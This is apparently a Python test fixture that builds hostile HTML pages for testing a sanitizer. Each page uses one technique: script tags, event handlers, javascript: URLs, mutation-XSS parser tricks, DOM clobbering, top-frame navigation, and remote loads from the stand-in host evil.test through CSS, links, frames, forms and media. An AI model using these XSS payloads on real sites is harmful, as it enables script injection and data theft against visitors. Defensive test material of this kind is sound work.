"""Pages that try to run, to load, to navigate, or to stand where they should not; each says so in `HIT`."""

_RUN = "top.HIT=parent.HIT=window.HIT=1;alert(1);fetch('//evil.test/run')"
WORDS = "Some words of the article, which are many enough that rules take them for its content. " * 4

HOSTILE = {
    "scripts": f"<script>{_RUN}</script><script src=//evil.test/s.js></script>"
    f"<script type=module>{_RUN}</script><noscript><img src=//evil.test/n></noscript>",
    "handlers": f'<body onload="{_RUN}" onfocus="{_RUN}"><p onmouseover="{_RUN}" onanimationstart="{_RUN}">'
    f"{WORDS}"
    f'<img src=x onerror="{_RUN}"><details open ontoggle="{_RUN}">{WORDS}</details>'
    f'<style>@keyframes a{{}}p{{animation:a 1s}}</style><input autofocus onfocus="{_RUN}">',
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.test/refresh">'
    '<meta http-equiv="Set-Cookie" content="evil=1">',
    "base": "<base href=//evil.test/ target=_top><a href=x>link</a><img src=relative.png>",
    "frames": f"""<iframe srcdoc="<script>{_RUN}</script>"></iframe><iframe src="//evil.test/f"></iframe>
    <iframe src="javascript:{_RUN}"></iframe><frameset><frame src=//evil.test/g></frameset>
    <portal src=//evil.test/p></portal><fencedframe></fencedframe>""",
    "addresses": f'<a href="javascript:{_RUN}">first link</a><a href="//evil.test/a" target=_top>second</a>'
    f'<a href="&#x6a;avascript&colon;{_RUN}" ping=//evil.test/ping>third link</a>'
    f'<map name=m><area href="javascript:{_RUN}" shape=default></map><img usemap=#m width=99 height=99>',
    "forms": f'<form action="//evil.test/form" id=f><input name=a autofocus><button>Send</button></form>'
    f'<form action="javascript:{_RUN}"><input type=image src=//evil.test/i.png></form>'
    "<button form=f formaction=//evil.test/b>Send</button><script>f.submit()</script>",
    "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script><a xlink:href="javascript:{_RUN}"><text>a</text></a>'
    '<image href=//evil.test/i.svg /><use href="//evil.test/u.svg#a"/><foreignObject><iframe src=//evil.test>'
    f'</iframe></foreignObject><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>'
    f'<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; '
    f"onload=&quot;{_RUN}&quot;>"
    '<image href=&quot;http://evil.test/i.png&quot;/></svg>">',
    "styles": """<style>@import url(//evil.test/i.css);@import "//evil.test/j.css";
    @font-face{font-family:f;src:url(//evil.test/f.woff)}*{background:url(//evil.test/b.png);cursor:url(//evil.test/c)
    ,auto;font-family:f;list-style-image:url(//evil.test/l.png)}p::before{content:url(//evil.test/p.png)}
    body{background-image:image-set("//evil.test/s.png" 1x)}p{behavior:url(//evil.test/x.htc)}</style>
    <p style="background:url(//evil.test/style.png);position:fixed;inset:0;z-index:99999">"""
    + WORDS,
    "links": "<link rel=prefetch href=//evil.test/a><link rel=preload as=script href=//evil.test/b>"
    "<link rel=preconnect href=//evil.test><link rel=dns-prefetch href=//evil.test><link rel=modulepreload "
    "href=//evil.test/m.js><link rel=stylesheet href=//evil.test/s.css><link rel=icon href=//evil.test/i.ico>"
    "<link rel=prerender href=//evil.test/r><link rel=manifest href=//evil.test/m.json>",
    "plugins": "<object data=//evil.test/o type=text/html></object><embed src=//evil.test/e>"
    "<applet code=//evil.test/a></applet><video src=//evil.test/v poster=//evil.test/p.png autoplay></video>"
    "<audio src=//evil.test/a autoplay></audio><picture><source srcset=//evil.test/s></picture>"
    "<img src=//evil.test/i.png srcset='//evil.test/2.png 2x' lowsrc=//evil.test/l dynsrc=//evil.test/d>"
    "<body background=//evil.test/body.png><table background=//evil.test/t.png>",
    "markup": f"""<title>&lt;/title>&lt;script>{_RUN}&lt;/script></title>
    <p>&lt;/script>&lt;script>{_RUN}&lt;/script>&lt;/style>&lt;/iframe>&lt;!--&lt;script>{WORDS}
    <p title='"><img src=x onerror="{_RUN}">' class="&quot;&gt;&lt;img src=x onerror={_RUN}&gt;"
    id='"onload="{_RUN}'>
    {WORDS} %%script%% </head> $& $` <style>p{{}}&lt;/style>&lt;script>{_RUN}&lt;/script></style>
    <style><!--</style><img src=x onerror="{_RUN}">--></style>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;"></math>
    <svg></p><style><a id="</style><img src=1 onerror={_RUN}>"></svg>
    <template><img src=x onerror="{_RUN}"></template>
    <xmp><script>{_RUN}</script></xmp><noembed><img src=x onerror="{_RUN}"></noembed>""",
    "parents": f'<script>top.location="//evil.test/top";parent.document.body.innerHTML=""</script>'
    f'<a href="//evil.test/t" target=_parent>parent</a><p id=page-data class="dehusk-block-0">{WORDS}</p>'
    "<p id=blocks name=shown>names of the inspector</p><form name=page id=views><input name=labelers></form>",
}
"""HTML by what it tries."""


def hostile_page(name: str) -> bytes:
    """A page that tries it, with some content."""
    head = "<!DOCTYPE html><html><head><title>T</title></head>"
    return f"{head}{HOSTILE[name]}<h1>Title</h1><p>{WORDS}</p>".encode()
